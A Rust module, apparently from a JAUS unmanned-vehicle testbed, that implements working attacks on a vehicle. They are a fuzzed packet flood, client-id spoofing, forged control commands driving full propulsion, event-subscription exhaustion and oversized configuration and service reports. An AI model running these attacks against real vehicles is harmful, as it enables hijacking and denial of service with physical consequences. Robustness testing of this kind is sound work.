//! What the attacker does. Each attack ends by itself and says how much it has sent and got.

use std::net::UdpSocket;
use std::time::{Duration, Instant};

use bytes::Bytes;
use jaus::address::JausId;
use jaus::codec::Message;
use jaus::endpoint::Outgoing;
use jaus::messages::core::create_event::EventType;
use jaus::messages::core::register_services::ServiceRec;
use jaus::messages::core::report_configuration::{self, ComponentRec, NodeRec};
use jaus::messages::core::report_services::{self, ComponentSeq};
use jaus::messages::core::{
    CreateEvent, QueryHeartbeatPulse, ReportConfiguration, ReportServices, RequestControl, Resume,
};
use jaus::messages::mobility::{QueryLocalPose, SetWrenchEffort};
use jaus::node::{Config, Node};
use jaus::wire::{Frame, judp};

use crate::clients::{CLIENT, ECHO, VEHICLE};
use crate::testbed::TO_STRANGERS;

/// A socket that sends in any id, and counts what comes back.
struct Attacker {
    socket: UdpSocket,
    sequence: u16,
    packets: u64,
    octets: u64,
}

impl Attacker {
    fn new() -> Self {
        let socket = UdpSocket::bind(("10.217.0.9", judp::PORT)).unwrap();
        socket.connect((TO_STRANGERS, judp::PORT)).unwrap();
        socket.set_nonblocking(true).unwrap();
        Self {
            socket,
            sequence: 0,
            packets: 0,
            octets: 0,
        }
    }

    fn send<M: Message>(&mut self, source: JausId, message: &M) {
        let payload = message.encode().unwrap();
        self.sequence = self.sequence.wrapping_add(1);
        let frame = Frame {
            sequence: self.sequence,
            ..Frame::new(source, VEHICLE, payload)
        };
        self.send_octets(&judp::encode(&frame).unwrap());
    }

    fn send_octets(&mut self, datagram: &[u8]) {
        // What the kernel does not take is lost.
        let _ = self.socket.send(datagram);
        self.packets += 1;
    }

    /// Counts what has come; it is not answered.
    fn listen(&mut self) {
        let mut buffer = [0; 65_535];
        while let Ok(length) = self.socket.recv(&mut buffer) {
            self.octets += length as u64;
        }
    }

    /// Does something again and again, so many times a second, and listens meanwhile.
    fn repeat(&mut self, time: Duration, rate: u32, mut act: impl FnMut(&mut Self, u32)) {
        let (begun, mut number) = (Instant::now(), 0);
        println!("\nbegun");
        while begun.elapsed() < time {
            while number < (begun.elapsed().as_secs_f64() * f64::from(rate)) as u32 {
                act(self, number);
                number += 1;
            }
            self.listen();
            std::thread::sleep(Duration::from_millis(2));
        }
    }

    fn report(&self) {
        println!("\nattack packets={} octets={}", self.packets, self.octets);
    }
}

/// Longer than the client needs for two looks and a newcomer to be found.
const LONG: Duration = Duration::from_secs(30);

pub(crate) async fn run(attack: &str) {
    let mut attacker = Attacker::new();
    match attack {
        "flood" => flood(&mut attacker),
        "forged-id" => attacker.repeat(LONG / 2, 1000, |it, _| it.send(CLIENT, &pose())),
        "forged-control" => attacker.repeat(LONG / 6, 20, |it, _| {
            it.send(
                CLIENT,
                &RequestControl {
                    authority_code: 200,
                },
            );
            it.send(CLIENT, &Resume {});
            it.send(CLIENT, &effort());
        }),
        "events" => events(&mut attacker),
        "configuration" => configuration(&mut attacker),
        "many-ids" => attacker.repeat(LONG, 550, |it, number| {
            let number = number % 1100;
            let id = JausId::new(2000 + (number / 250) as u16, 1, (number % 250 + 1) as u8);
            it.send(id, &pose());
        }),
        "services" => services().await,
        other => panic!("no attack is called {other}"),
    }
    attacker.report();
}

fn pose() -> QueryLocalPose {
    QueryLocalPose { presence_vector: 3 }
}

fn effort() -> SetWrenchEffort {
    let mut effort = SetWrenchEffort::default();
    let set = effort.set_propulsive_linear_effort_x_percent(100.0);
    set.unwrap();
    effort
}

/// Datagrams with one octet changed, at the vehicle and at the echo socket in turn.
fn flood(attacker: &mut Attacker) {
    let echo = UdpSocket::bind(("10.217.0.10", 0)).unwrap();
    echo.connect((TO_STRANGERS, ECHO)).unwrap();
    attacker.repeat(LONG / 2, 10_000, |it, number| {
        let id = JausId::new(3000, 1, (number % 250 + 1) as u8);
        let mut frame = Frame::new(id, VEHICLE, pose().encode().unwrap());
        frame.sequence = number as u16;
        let mut datagram = judp::encode(&frame).unwrap().to_vec();
        let place = number as usize * 7 % datagram.len();
        datagram[place] ^= (number / 7 % 255 + 1) as u8;
        it.send_octets(&datagram);
        let _ = echo.send(&datagram);
    });
}

/// Subscribes in 256 ids, keeps them alive, and answers nothing.
fn events(attacker: &mut Attacker) {
    let id = |number: u32| JausId::new(4000 + (number / 128) as u16, 1, (number % 128 + 1) as u8);
    let create = |number: u32| {
        let mut create = CreateEvent {
            request_id: number as u8,
            event_type: EventType(0),
            query_message: pose().encode().unwrap(),
            ..CreateEvent::default()
        };
        create.set_requested_periodic_rate_hz(100.0).unwrap();
        create
    };
    attacker.repeat(Duration::from_secs(12), 256, |it, number| match number {
        0..256 => it.send(id(number), &create(number)),
        _ => it.send(id(number % 256), &QueryHeartbeatPulse {}),
    });
}

/// Claims to know five nodes of 205 components each.
fn configuration(attacker: &mut Attacker) {
    let component = |component_id| ComponentRec {
        component_id,
        instance_id: 0,
    };
    for subsystem in [5000, 5001] {
        let node = |node_id| report_configuration::NodeSeq {
            node_rec: NodeRec { node_id },
            component_list: (1..=205).map(component).collect(),
        };
        let report = ReportConfiguration {
            node_list: (1..=5).map(node).collect(),
        };
        attacker.send(JausId::new(subsystem, 1, 1), &report);
    }
    std::thread::sleep(Duration::from_secs(1));
}

/// Reports as many services as a message can hold, four times.
async fn services() {
    let service = |number: u32| ServiceRec {
        uri: format!("u{number}").into(),
        major_version_number: 1,
        minor_version_number: 0,
    };
    let component = |component_id| ComponentSeq {
        component_rec: ComponentRec {
            component_id,
            instance_id: 0,
        },
        service_list: (0..255).map(service).collect(),
    };
    let node = |node_id| report_services::NodeSeq {
        node_rec: NodeRec { node_id },
        component_list: (1..=254).map(component).collect(),
    };
    let report = ReportServices {
        node_list: (1..=28).map(node).collect(),
    };
    let payload: Bytes = report.encode().unwrap();
    for subsystem in 6000..6004 {
        let mut config = Config::new(subsystem, 1);
        config.port = 0;
        let node = Node::start(config.peer(TO_STRANGERS.parse().unwrap())).unwrap();
        let port = node.attach(1).unwrap();
        let message = Outgoing {
            acknowledge: true,
            ..Outgoing::new(port.id(), VEHICLE, payload.clone())
        };
        // It may be refused.
        let sent = port.deliver(message);
        let _ = tokio::time::timeout(Duration::from_secs(8), sent).await;
        node.shutdown().await;
    }
}
